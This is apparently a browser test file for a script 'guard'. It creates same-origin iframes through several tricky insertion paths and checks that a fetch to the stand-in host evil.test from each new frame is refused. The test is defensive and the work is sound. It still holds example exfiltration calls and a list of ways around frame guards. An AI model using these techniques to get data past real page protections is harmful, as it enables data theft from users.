// New realms: a same-origin frame or popup has its own, unguarded sinks until the guard reaches
// it. Each test makes one kind of new realm the guard might miss and sends from it; the servers'
// log says whether anything got out.
import assert from 'node:assert/strict';
import { test } from 'node:test';

import { OPTIONS, PAGE_CSP, PAGE_HELPERS, assertNothingLeaked, useBrowser, waitForServed } from './helpers.mjs';

const session = useBrowser();
const open = (afterInstall = '') => session.browser.open({ options: OPTIONS, csp: PAGE_CSP, afterInstall: PAGE_HELPERS + afterInstall });

/** In the page: what a fetch to evil.test/<marker>/<name> from `win` gave (a guard refusal names the guard). */
const PROBE = `window.probe = async (win, marker, name) => {
  const outcome = await attempt(() => win.fetch('https://evil.test/' + marker + '/' + name));
  return outcome.error ? outcome.error + (/widget-guard refused/.test(outcome.message) ? ' (guard)' : '') : 'sent';
};`;

test('fresh same-origin frames reached only as frames[i] (no getter): every insertion path, a synchronous load handler, another realm\'s DOM method, a data: frame → refused (guard; the data: frame is cross-origin)', async () => {
  const page = await open(PROBE);
  const outcomes = await page.evaluate(async () => {
    await guardReady;
    const marker = 'adv-frames';
    const newest = () => frames[frames.length - 1];
    const container = () => document.body.appendChild(document.createElement('div'));
    const iframe = () => document.createElement('iframe');
    const results = {};
    container().replaceChildren(iframe());
    results.replaceChildren = await probe(newest(), marker, 'replace-children');
    container().appendChild(document.createTextNode('x')).after(iframe());
    results.textNodeAfter = await probe(newest(), marker, 'text-after');
    const range = document.createRange();
    range.selectNodeContents(container().appendChild(document.createElement('p')));
    range.surroundContents(iframe());
    results.surroundContents = await probe(newest(), marker, 'surround-contents');
    const editable = container();
    editable.contentEditable = 'true';
    editable.focus();
    document.execCommand('insertHTML', false, '<iframe></iframe>');
    results.execCommandInsertHTML = await probe(newest(), marker, 'exec-command');
    const body = document.createElement('body');
    body.append(...document.body.childNodes, iframe());
    document.body = body;
    results.bodySetter = await probe(newest(), marker, 'body-setter');
    // Chromium fires a frame's first load event inside appendChild, before the guard's hook returns.
    const early = iframe();
    let fromLoad;
    early.onload = () => { fromLoad = probe(newest(), marker, 'sync-load'); };
    container().appendChild(early);
    results.syncLoadHandler = await fromLoad;
    // The widget's appendChild used on a frame's node: the new frame is the frame's child.
    const child = newest();
    Node.prototype.appendChild.call(child.document.body, iframe());
    results.otherRealmsMethod = await probe(child[0], marker, 'other-realm');
    const data = iframe();
    data.src = 'data:text/html,<p>opaque</p>';
    await new Promise((resolve) => { data.onload = resolve; container().append(data); });
    results.dataFrame = await probe(newest(), marker, 'data-frame');
    results.allowed = await attempt(() => frames[0].fetch('https://api.test/v1/adv-frames/ok').then((r) => r.json()));
    return results;
  });
  await waitForServed('api.test/v1/adv-frames/ok');
  assertNothingLeaked('adv-frames');
  assert.deepEqual({ ...outcomes, allowed: outcomes.allowed.value?.path }, {
    replaceChildren: 'TypeError (guard)',
    textNodeAfter: 'TypeError (guard)',
    surroundContents: 'TypeError (guard)',
    execCommandInsertHTML: 'TypeError (guard)',
    bodySetter: 'TypeError (guard)',
    syncLoadHandler: 'TypeError (guard)',
    otherRealmsMethod: 'TypeError (guard)',
    dataFrame: 'SecurityError', // an opaque origin: its realm is out of reach (its own script is the CSP's, see below)
    allowed: '/v1/adv-frames/ok',
  });
  await page.close();
});
